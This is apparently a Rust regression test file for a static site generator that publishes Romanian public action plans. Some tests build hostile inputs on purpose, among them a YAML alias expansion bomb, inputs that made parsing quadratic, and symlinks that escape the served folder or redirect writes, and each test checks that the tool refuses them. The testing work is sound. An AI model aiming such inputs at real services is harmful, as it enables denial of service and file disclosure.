    std::os::unix::fs::symlink(secret.path(), folder.join("linkdir")).unwrap();
    for path in ["/link.txt", "/linkdir/secret.txt"] {
        let (status, _, body) = server.request("GET", path);
        assert!(!body.contains("SECRET-OUTSIDE"), "{path} served a file outside the folder");
        assert!(status == 404 || status == 403, "{path}: {status}");
    }
}

/// Issue 15, item 17: the serve test asserted that an edit was served "within 2 s", and failed
/// whenever the machine was busy. Serve's tests now wait for the event itself (the version
/// endpoint moves on, then the page shows the edit) with a generous limit (`tests/suite/
/// serving.rs`). A busy machine is made here on purpose: every publish of serve pauses 3 s (the
/// test-only pause of `src/output.rs`), longer than the old 2 s, and the edit is still awaited.
#[test]
fn serve_tests_wait_for_the_rebuild_not_for_a_clock() {
    let site = TestSite::minimal();
    let server = Serve::start(&site, &[("PLANPORTAL_TEST_PAUSE_MS", "3000"), ("PLANPORTAL_TEST_PAUSE_AT", "written")]);
    server.wait_for("/", |status, _| status == 200);
    server.await_document_edit(&site, "Paragraf scris pe o mașină ocupată.");
}

// Loading (items 10, 11, 13, 16): src/load/, src/model/resolve.rs, src/scaffold.rs.

/// Issue 15, item 10: a plan whose long anchored text is aliased thousands of times expanded to
/// gigabytes in memory. Content needs no aliases: the loader refuses anchors and aliases.
#[test]
fn yaml_aliases_are_refused() {
    let site = TestSite::minimal();
    let plan = site.read("content/plans/cluj-droguri.yaml");
    // The plan of the minimal site with a 10 KB anchored header and a megabyte of notes, each
    // an alias of it: 50 MB of text once expanded.
    let long = "A".repeat(10_000);
    let mut notes = format!("header: &lung\n  \"{long}\"\nnotes:\n");
    while notes.len() < 1_000_000 {
        notes.push_str("  - {kind: alta, text: *lung}\n");
    }
    site.write("content/plans/bomba.yaml", &plan.replace("signatories:", &format!("{notes}signatories:")));
    let output = site.run_with_limit(&["check"]);
    assert_eq!(
        stderr(&output),
        "error: YAML anchors and aliases are not allowed in content
 --> content/plans/bomba.yaml:7:9
  |
7 | header: &lung
  |         ^^^^^
  |
  = help: write the value out in full wherever it is needed; quote a text that starts with `&` or `*`

1 error
"
    );
    assert_eq!(output.status.code(), Some(1));
}

/// Issue 15, item 11: 100,000 unclosed `[` made the YAML scanner quadratic. The loader refuses
/// flow collections nested past a small depth before the YAML library sees them.
#[test]
fn unclosed_flow_brackets_do_not_hang() {
    let site = TestSite::minimal();
    let plan = site.read("content/plans/cluj-droguri.yaml");
    let (head, _) = plan.split_once("signatories:").unwrap();
    site.write("content/plans/paranteze.yaml", &format!("{head}sections: {}\n", "[".repeat(100_000)));
    let output = site.run_with_limit(&["check"]);
    let text = stderr(&output);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "error: lists and maps are nested more than 64 levels deep", "{text}");
    assert_eq!(lines[1], " --> content/plans/paranteze.yaml:7:75", "{text}");
    assert!(
        text.ends_with(
            "  = help: content nests a few levels at most: check that every `[` and `{` is closed\n\n1 error\n"
        ),
        "{text}"
    );
    assert_eq!(output.status.code(), Some(1));
}

/// Issue 15, item 11: 20,000 unknown names made `check` quadratic (every error searched the
/// file again for its place) and printed 20,000 errors. Places are found in one pass per file
/// and at most 20 problems are printed per file, then how many more there are.
#[test]
fn thousands_of_unknown_names_do_not_hang() {
    let site = TestSite::minimal();
    let plan = site.read("content/plans/cluj-droguri.yaml");
    let mut names = String::from("responsible:\n");
    for n in 0..20_000 {
        names.push_str(&format!("                  - Instituția necunoscută {n:05}\n"));
    }
    site.write("content/plans/cluj-droguri.yaml", &plan.replace("responsible: [CPECA Cluj, DSP, APL]\n", &names));
    let output = site.run_with_limit(&["check"]);
    let text = stderr(&output);
    assert!(
        text.starts_with(
            "error: unknown institution `Instituția necunoscută 00000`
  --> content/plans/cluj-droguri.yaml:37:21
   |
37 |                   - Instituția necunoscută 00000
   |                     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^
   |
   = help: add the name as an alias of its institution in content/institutions/
"
        ),
        "{}",
        &text[..text.len().min(2000)]
    );
    assert_eq!(text.matches("error: unknown institution").count(), 20);
    assert!(text.contains("content/plans/cluj-droguri.yaml:56:21"), "the 20th error is shown");
    assert!(
        text.ends_with("… and 19980 more errors in content/plans/cluj-droguri.yaml\n\n20000 errors\n"),
        "{}",
        &text[text.len().saturating_sub(2000)..]
    );
    assert_eq!(output.status.code(), Some(1));
}

/// Issue 15, item 13: `2024-02-30` passed as a date: months and days were checked apart.
#[test]
fn impossible_calendar_dates_are_refused() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/impossible_calendar_dates_are_refused"));
    let output = site.run(&["check"]);
    assert_eq!(
        stderr(&output),
        "error: there is no day `2023-02-29` in the calendar
 --> content/documents/pv-cluj-napoca.md:6:7
  |
6 | date: 2023-02-29
  |       ^^^^^^^^^^
  |
  = help: check the day and the month; dates are written YYYY-MM-DD, e.g. 2022-09-29

error: there is no day `2024-02-30` in the calendar
 --> content/plans/cluj-droguri.yaml:5:7
  |
5 | date: 2024-02-30
  |       ^^^^^^^^^^
  |
  = help: check the day and the month; dates are written YYYY-MM-DD, e.g. 2022-09-29

2 errors
"
    );
    assert_eq!(output.status.code(), Some(1));
    // The days that do exist pass, the leap day of a leap year among them.
    let plan = site.read("content/plans/cluj-droguri.yaml").replace("2024-02-30", "2024-02-29");
    site.write("content/plans/cluj-droguri.yaml", &plan);
    let document = site.read("content/documents/pv-cluj-napoca.md").replace("2023-02-29", "2023-02-28");
    site.write("content/documents/pv-cluj-napoca.md", &document);
    let output = site.run(&["check"]);
    assert_eq!(stderr(&output), "");
    assert!(output.status.success());
}

/// Issue 15, item 13: `con`, `aux`, `com1`… were accepted as plan and institution ids; their
/// pages could not be copied to or served from Windows.
#[test]
fn windows_device_names_are_refused_as_ids() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/windows_device_names_are_refused_as_ids"));
    let output = site.run(&["check"]);
    assert_eq!(
        stderr(&output),
        "error: `com1` is a device name reserved by Windows, not a valid institution id
 --> content/institutions/alte.yaml:1:7
  |
1 | - id: com1
  |       ^^^^
  |
  = help: the site could not be copied to or served from Windows; add to the id, e.g. com1-1

error: the file name `con` is a device name reserved by Windows
--> content/plans/con.yaml
 = help: the site could not be copied to or served from Windows; add to the name, e.g. con-1

2 errors
"
    );
    assert_eq!(output.status.code(), Some(1));
}

/// Issue 15, item 13: a symbolic link under `content/` was skipped without a word, so a linked
/// plan vanished from the site. Links are not followed (one could publish any file of the
/// machine), and each is now an error naming it.
#[cfg(unix)]
#[test]
fn symlinked_content_files_are_reported() {
    let site = TestSite::minimal();
    let outside = fixtures().join("regressions/symlinked_content_files_are_reported/outside/legat.yaml");
    std::os::unix::fs::symlink(&outside, site.root().join("content/plans/legat.yaml")).unwrap();
    let output = site.run(&["check"]);
    assert_eq!(
        stderr(&output),
        "error: this is a symbolic link, and symbolic links are not followed
--> content/plans/legat.yaml
 = help: copy the file into content/ instead of linking to it

1 error
"
    );
    assert_eq!(output.status.code(), Some(1));
}

/// Issue 15, item 13: `new` checked that the target did not exist, but a dangling symbolic link
/// does not "exist", and the skeleton was written where the link pointed.
#[cfg(unix)]
#[test]
fn new_does_not_write_through_a_dangling_symlink() {
    let site = TestSite::minimal();
    let elsewhere = tempfile::tempdir().unwrap();
    let target = elsewhere.path().join("scris-aici.yaml");
    std::os::unix::fs::symlink(&target, site.root().join("content/plans/cluj-plan-droguri.yaml")).unwrap();
    let output = site.run(&["new", "plan", "--county", "cluj", "--type", "plan-droguri"]);
    assert!(!target.exists(), "the skeleton was written through the link");
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(
        stderr(&output),
        format!(
            "error: {} is a symbolic link; `new` does not write through links, choose another --id\n",
            site.root().join("content/plans/cluj-plan-droguri.yaml").display()
        )
    );
}

/// Issue 15, item 13: `title: ~` made a plan titled `~`, and `title: ""` one without a title.
#[test]
fn null_or_empty_title_is_refused() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/null_or_empty_title_is_refused"));
    let output = site.run(&["check"]);
    assert_eq!(
        stderr(&output),
        "error: the title is empty: expected a text
 --> content/documents/pv-cluj-napoca.md:2:1
  |
2 | title: \"\"
  | ^
  |
  = help: write the text as the document has it; `~`, `null` or nothing after the colon means no value in YAML

error: the title has no value: expected a text
 --> content/plans/cluj-droguri.yaml:1:1
  |
1 | title: ~
  | ^
  |
  = help: write the text as the document has it; `~`, `null` or nothing after the colon means no value in YAML

2 errors
"
    );
    assert_eq!(output.status.code(), Some(1));
}

/// Issue 15, item 16: a plan still holding the `COMPLETAȚI` placeholders of `planportal new`
/// passed `check` and was published. Each placeholder outside a comment is now an error.
#[test]
fn placeholders_left_by_new_are_refused() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/placeholders_left_by_new_are_refused"));
    let output = site.run(&["check"]);
    assert_eq!(
        stderr(&output),
        "error: `COMPLETAȚI` marks a value still to fill in
  --> content/documents/pv-cluj-napoca.md:16:1
   |
16 | COMPLETAȚI: textul documentului, în Markdown.
   | ^^^^^^^^^^
   |
   = help: replace the placeholder with the text of the published document, or delete what the document does not have

error: `COMPLETAȚI` marks a value still to fill in
 --> content/plans/cluj-droguri.yaml:2:9
  |
2 | title: \"COMPLETAȚI: titlul planului, exact ca în document\"
  |         ^^^^^^^^^^
  |
  = help: replace the placeholder with the text of the published document, or delete what the document does not have

error: `COMPLETAȚI` marks a value still to fill in
  --> content/plans/cluj-droguri.yaml:35:26
   |
35 |                 period: \"COMPLETAȚI: termenul, ca în document\"  # COMPLETAȚI ca în document
   |                          ^^^^^^^^^^
   |
   = help: replace the placeholder with the text of the published document, or delete what the document does not have

3 errors
"
    );
    assert_eq!(output.status.code(), Some(1));
    // A skeleton just written by `new` is refused as a whole.
    let fresh = TestSite::minimal();
    assert!(fresh.run(&["new", "plan", "--county", "cluj", "--type", "plan-droguri"]).status.success());
    assert_eq!(fresh.run(&["check"]).status.code(), Some(1));
}

/// Issue 15, item 11, found while fixing it: every problem kept its own copy of its source line,
/// so 20,000 unknown names in one flow list (a 600 KB line) held 12 GB of copies. Problems of
/// one line now share it.
#[test]
fn problems_of_one_long_line_share_it() {
    let site = TestSite::minimal();
    let plan = site.read("content/plans/cluj-droguri.yaml");
    let names: Vec<String> = (0..20_000).map(|n| format!("Instituția necunoscută {n:05}")).collect();
    let line = format!("responsible: [{}]\n", names.join(", "));
    site.write("content/plans/cluj-droguri.yaml", &plan.replace("responsible: [CPECA Cluj, DSP, APL]\n", &line));
    let output = site.run_within(&["check"], 1024);
    let text = stderr(&output);
    assert!(text.contains(" --> content/plans/cluj-droguri.yaml:36:31\n"), "{}", &text[..text.len().min(3000)]);
    assert!(
        text.ends_with("… and 19980 more errors in content/plans/cluj-droguri.yaml\n\n20000 errors\n"),
        "{}",
        &text[text.len().saturating_sub(2000)..]
    );
}

/// Issue 15, item 11, the same hang by another road: each unknown name was compared with every
/// known one for a "did you mean" hint, so 10,000 unknown names against 10,000 institutions cost
/// 100 million comparisons. Hints are searched for the problems that are printed.
#[test]
fn unknown_names_among_thousands_of_institutions_do_not_hang() {
    let site = TestSite::minimal();
    let plan = site.read("content/plans/cluj-droguri.yaml");
    let mut names = String::from("responsible:\n");
    let mut institutions = String::new();
    for n in 0..10_000 {
        names.push_str(&format!("                  - Instituția necunoscută {n:05}\n"));
        institutions
            .push_str(&format!("- {{id: inst-{n}, type: dsp, county: cluj, name: Direcția {n:05} a județului}}\n"));
    }
    site.write("content/plans/cluj-droguri.yaml", &plan.replace("responsible: [CPECA Cluj, DSP, APL]\n", &names));
    site.write("content/institutions/multe.yaml", &institutions);
    let output = site.run_with_limit(&["check"]);
    let text = stderr(&output);
    assert!(
        text.starts_with(
            "error: unknown institution `Instituția necunoscută 00000`\n  --> content/plans/cluj-droguri.yaml:37:21\n"
        ),
        "{}",
        &text[..text.len().min(2000)]
    );
    assert!(
        text.ends_with("… and 9980 more errors in content/plans/cluj-droguri.yaml\n\n10000 errors\n"),
        "{}",
        &text[text.len().saturating_sub(2000)..]
    );
}

// Positions of problems found after parsing (issue 16, point 5): src/load/yaml/, src/model/resolve/.

/// Issue 16, point 5: the place of a problem found after parsing was searched as the n-th
/// occurrence of its text in the file, so an objective that repeats its goal's text was placed at
/// the goal (line 23, not 27). Places now come from the YAML parser, by the value's path.
#[test]
fn a_warning_for_a_repeated_text_points_at_the_right_line() {
    let site = TestSite::minimal();
    site.overlay(&fixtures().join("regressions/a_warning_for_a_repeated_text_points_at_the_right_line"));
    let check = site.run(&["check"]);
    assert_eq!(
        stderr(&check),
        "\
warning: specific objective 1.1. is not linked to a framework objective
--> content/plans/cluj-droguri.yaml:27:1
 = help: no framework objective is similar enough: the closest, sna/prevenire-universala, scores 0.09, below 0.42; link it by hand if the plan implements one, or leave it unlinked; `planportal suggest` lists them all

1 warning
"
    );
    assert_eq!(check.status.code(), Some(0));
}

/// Issue 16, point 5: an impossible `date:` was reported at the first field holding the same
/// text (an `approval:` written above it, line 5), not at the date itself (line 6).
#[test]
fn an_error_on_a_value_written_earlier_in_another_field_points_at_the_value() {
    let site = TestSite::minimal();
    site.overlay(
        &fixtures().join("regressions/an_error_on_a_value_written_earlier_in_another_field_points_at_the_value"),
    );
    let check = site.run(&["check"]);
    assert_eq!(
        stderr(&check),
        "\
error: there is no day `2024-02-30` in the calendar
 --> content/plans/cluj-droguri.yaml:6:7
  |
6 | date: 2024-02-30
  |       ^^^^^^^^^^
  |
  = help: check the day and the month; dates are written YYYY-MM-DD, e.g. 2022-09-29

1 error
"
    );
    assert_eq!(check.status.code(), Some(1));
}

// Aggregate pages (issue 17, point 5): src/render/views/{compare,institution}.rs, macros.html.

/// Issue 17, point 5: pages that show the activities of several plans (an institution's, a
/// framework objective's) repeated ids such as `a-1-1-1`, once per plan: 38 duplicate-id errors
/// of the W3C Nu checker on 7 pages. There an activity's id now carries its plan's id; the plan's
/// own pages keep the bare anchors old links point to.
#[test]
fn no_page_of_the_bundled_site_repeats_an_id() {
    let site = crate::support::bundled_built();
    let selector = scraper::Selector::parse("[id]").unwrap();
    let mut repeated = Vec::new();
    let mut pages = 0;
    for (path, bytes) in &site.files {
        if !path.ends_with(".html") {
            continue;
        }
        pages += 1;
        let html = scraper::Html::parse_document(&String::from_utf8_lossy(bytes));
        let mut seen = std::collections::BTreeMap::<&str, usize>::new();
        for element in html.select(&selector) {
            *seen.entry(element.value().id().unwrap_or_default()).or_default() += 1;
        }
        repeated.extend(seen.into_iter().filter(|(_, n)| *n > 1).map(|(id, n)| format!("{path}: {id} ×{n}")));
    }
    assert!(pages > 300, "only {pages} pages");
    assert!(repeated.is_empty(), "{} repeated ids:\n{}", repeated.len(), repeated.join("\n"));

    let plan = site.page("planuri/cluj-droguri-2022-2026/index.html");
    assert!(plan.contains("id=a-1-1-1>"), "the plan page's own anchors must stay as they were");
    let objective = site.page("strategii/snd-2022-2026/prevenire-universala/index.html");
    assert!(objective.contains("id=cluj-droguri-2022-2026--a-1-1-1>"), "an aggregate page prefixes the plan id");
}

/// Issue 17, point 5: an activity naming a body both responsible and partner was listed twice on
/// the body's page (IPJ Bacău, ONG-uri), as if it were two activities. It is listed once, with
/// both roles; the institution lists count it once.
#[test]
fn an_institution_both_responsible_and_partner_lists_the_activity_once() {
    let site = crate::support::bundled_built();
    let selector = scraper::Selector::parse("article.activity a.self").unwrap();
    for (path, bytes) in site.files.iter().filter(|(p, _)| p.starts_with("institutii/") && p.ends_with(".html")) {
        let html = scraper::Html::parse_document(&String::from_utf8_lossy(bytes));
        let mut links: Vec<&str> = html.select(&selector).filter_map(|a| a.value().attr("href")).collect();
        let count = links.len();
        links.sort_unstable();
        links.dedup();
        assert_eq!(links.len(), count, "{path} lists an activity more than once");
    }
    let ipj = site.page("institutii/ipj-bacau/index.html");
    assert_eq!(ipj.matches("Rol: <strong>responsabil și partener</strong>").count(), 1);
    let listed = ipj.matches("<article ").count();
    let list = site.page("institutii/index.html");
    let row = list.split("<tr>").find(|r| r.contains("institutii/ipj-bacau/")).expect("IPJ Bacău in the list");
    assert!(row.contains(&format!("<td>{listed}</td>")), "the list must count {listed} activities: {row}");
}

// Readable on a phone (issue 17, the small ones): themes/default/, src/text.rs, src/render/.

/// Issue 17, point 6: no page named an icon, so browsers asked for a missing `/favicon.ico` (the
/// only Lighthouse best-practices failure). Every page now names the theme's SVG icon, which is built.
#[test]
fn every_page_names_an_icon_that_exists() {
    let site = crate::support::snapshot_site_built();
    let home = site.page("index.html");
    let document = scraper::Html::parse_document(&home);
    let selector = scraper::Selector::parse(r#"link[rel="icon"]"#).unwrap();
    let icon = document.select(&selector).next().expect("the home page names no icon");
    assert_eq!(icon.value().attr("href"), Some("/favicon.svg"), "{home}");
    assert!(site.page("favicon.svg").starts_with("<svg"));
}

/// The texts of the elements `selector` matches in `html`, in document order.
fn texts_of(html: &str, selector: &str) -> Vec<String> {
    let document = scraper::Html::parse_document(html);
    let selector = scraper::Selector::parse(selector).unwrap();
    document.select(&selector).map(|e| e.text().collect::<String>()).collect()
}

/// The `href`s of the elements `selector` matches in `html`, in document order.
fn hrefs_of(html: &str, selector: &str) -> Vec<String> {
    let document = scraper::Html::parse_document(html);
    let selector = scraper::Selector::parse(selector).unwrap();
    document.select(&selector).filter_map(|a| a.value().attr("href")).map(str::to_owned).collect()
}

/// Issue 17, point 6: a county page listed its institutions in byte order, every name with a
/// diacritic after the plain letters ("Asociația Culturală Miraje" before "Asociația Căsuța
/// Bucuriei" on Cluj's page). Lists are now in Romanian alphabetical order (ICU4X collation,
/// `text::collate`): institutions and themes on a county page, the list of counties.
#[test]
fn a_county_page_lists_its_institutions_in_romanian_order() {
    let site = crate::support::bundled_built();
    let cluj = site.page("judete/cluj/index.html");
    let names = texts_of(&cluj, "ul.columns li a");
    let position =
        |name: &str| names.iter().position(|n| n.contains(name)).unwrap_or_else(|| panic!("{name}: {names:?}"));
    assert!(position("Căsuța Bucuriei") < position("Culturală Miraje"), "{names:?}");
    let in_romanian_order = |list: &[String]| {
        let mut sorted = list.to_vec();
        sorted.sort_by(|a, b| planportal::text::collate(a, b));
        assert_eq!(list, sorted);
    };
    in_romanian_order(&names);
    in_romanian_order(&texts_of(&cluj, "ul.tags li a"));
    let counties = texts_of(&site.page("judete/index.html"), "tbody th a");
    in_romanian_order(&counties);
    let position = |name: &str| counties.iter().position(|n| n == name).unwrap_or_else(|| panic!("{name}"));
    assert!(position("Brăila") < position("București") && position("București") < position("Buzău"), "{counties:?}");
}

/// Issue 17, point 6: the theme links of a county page went to the national theme page, every
/// county side by side, and the county was lost. They now lead to the county's own page of the
/// theme (`judete/<county>/teme/<theme>/`), which shows that county only, links back to the
/// national page, and is in the sitemap.
#[test]
fn a_theme_link_on_a_county_page_keeps_the_county() {
    let site = crate::support::bundled_built();
    let cluj = site.page("judete/cluj/index.html");
    let links = hrefs_of(&cluj, "ul.tags li a");
    assert!(!links.is_empty(), "Cluj's page lists no theme");
    for href in &links {
        assert!(href.starts_with("/judete/cluj/teme/"), "{href}");
        let page = site.page(&format!("{}index.html", href.trim_start_matches('/')));
        let counties = texts_of(&page, "section.county-column h2");
        assert_eq!(counties, ["Cluj"], "{href}");
        let theme = href.trim_start_matches("/judete/cluj/teme/");
        let page_links = hrefs_of(&page, "main a");
        assert!(page_links.contains(&format!("/teme/{theme}")), "{href}: no link to the national page");
        assert!(site.page("sitemap.xml").contains(&format!("/judete/cluj/teme/{theme}</loc>")), "{href}");
    }
}

/// Issue 18: seven "Parteneri" cells of Bacău's plan print only a dash. Once every empty cell
/// said "necompletat în document", those seven said it too, as if the document had left them
/// blank, and the plan note claimed the portal showed them without partners. A dash is shown as
/// printed (`partners_text`); only a cell the document leaves blank says "necompletat".
#[test]
fn a_partners_cell_that_prints_a_dash_shows_the_dash() {
    let source = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("content/sources/002_37d2d2bacd39b006.txt"),
    )
    .expect("Bacău's source");
    let dashes = source.lines().filter(|line| line.split('\t').any(|cell| cell.trim() == "-")).count();
    assert!(dashes > 0, "the source has no dash cell");
    let site = crate::support::bundled_built();
    let plan = site.page("planuri/bacau-plan-operational-servicii-sociale-2014-2024/index.html");
    let shown = texts_of(&plan, "dd p.as-printed").into_iter().filter(|t| t.trim() == "-").count();
    assert_eq!(shown, dashes, "dash cells shown as printed");
}

/// Issue 19: `suggest` proposed the framework objective on drug prevention in prisons for a
/// county objective about informing pupils, because the two texts share "consumului de
/// droguri", words nearly every framework objective has. A match below the similarity floor is
/// refused and the output says so; a copied national objective is still proposed.
#[test]
fn suggest_refuses_a_match_below_the_similarity_floor() {
    let site = TestSite::bundled();
    let labels = "labels: {goal: Obiectiv general, objective: Obiectiv specific, activity: Activitate, indicators: Indicatori, period: Termen, responsible: Responsabili}\n";
    site.write(
        "content/plans/vaslui-droguri.yaml",
        &format!(
            "title: Plan\ntype: plan-droguri\ncounty: vaslui\nperiod: {{from: 2024, to: 2026}}\nsource: 000_6788c3dd0b8dd7a6.txt\n{labels}goals:\n  - number: \"1\"\n    text: Prevenire\n    objectives:\n      - number: \"1.1.\"\n        text: Creșterea gradului de informare a elevilor privind riscurile consumului de droguri\n      - number: \"1.2.\"\n        text: Reducerea stigmatizării persoanelor care consumă droguri\n"
        ),
    );
    let output = site.run(&["suggest", "--json"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let suggestions: Vec<serde_json::Value> = serde_json::from_str(&stdout(&output)).expect("json");
    let of = |number: &str| {
        suggestions
            .iter()
            .find(|s| s["plan"] == "vaslui-droguri" && s["objective_number"] == number)
            .unwrap_or_else(|| panic!("no suggestion for {number}: {suggestions:?}"))
            .clone()
    };
    let pupils = of("1.1.");
    assert!(pupils["framework_objective"].is_null(), "a weak match is proposed: {pupils}");
    assert!(pupils["score"].as_f64().expect("score") < pupils["floor"].as_f64().expect("floor"), "{pupils}");
    assert_eq!(of("1.2.")["framework_objective"], "snd-2022-2026/reducerea-stigmatizarii");
    let text = stdout(&site.run(&["suggest"]));
    assert!(text.contains("no framework objective is similar enough"), "{text}");
    let check = stderr(&site.run(&["check"]));
    assert!(check.contains("no framework objective is similar enough"), "{check}");
}

/// Issue 20 (rankings): an institution or institution type whose id is `clasament` would write
/// its page where the ranking of institutions (or of types) is, one file for two pages; `check`
/// refuses the id at its place.
#[test]
fn an_institution_may_not_take_the_rankings_folder_as_its_id() {
    let site = TestSite::minimal();
    let institutions = site.read("content/institutions/cluj.yaml");
    let taken = "- id: clasament\n  type: dsp\n  county: cluj\n  name: Direcția de Sănătate Publică Clasament\n";
    site.write("content/institutions/cluj.yaml", &format!("{institutions}{taken}"));
    let output = site.run(&["check"]);
    assert_eq!(output.status.code(), Some(1));
    let errors = stderr(&output);
    let line = institutions.lines().count() + 1;
    for expected in [
        "error: `clasament` names a page of the site itself (/institutii/clasament/), not a valid institution id"
            .to_owned(),
        format!(" --> content/institutions/cluj.yaml:{line}:7"),
        "the two would be one file; add to the id, e.g. clasament-1".to_owned(),
    ] {
        assert!(errors.contains(&expected), "missing {expected:?} in:\n{errors}");
    }
}
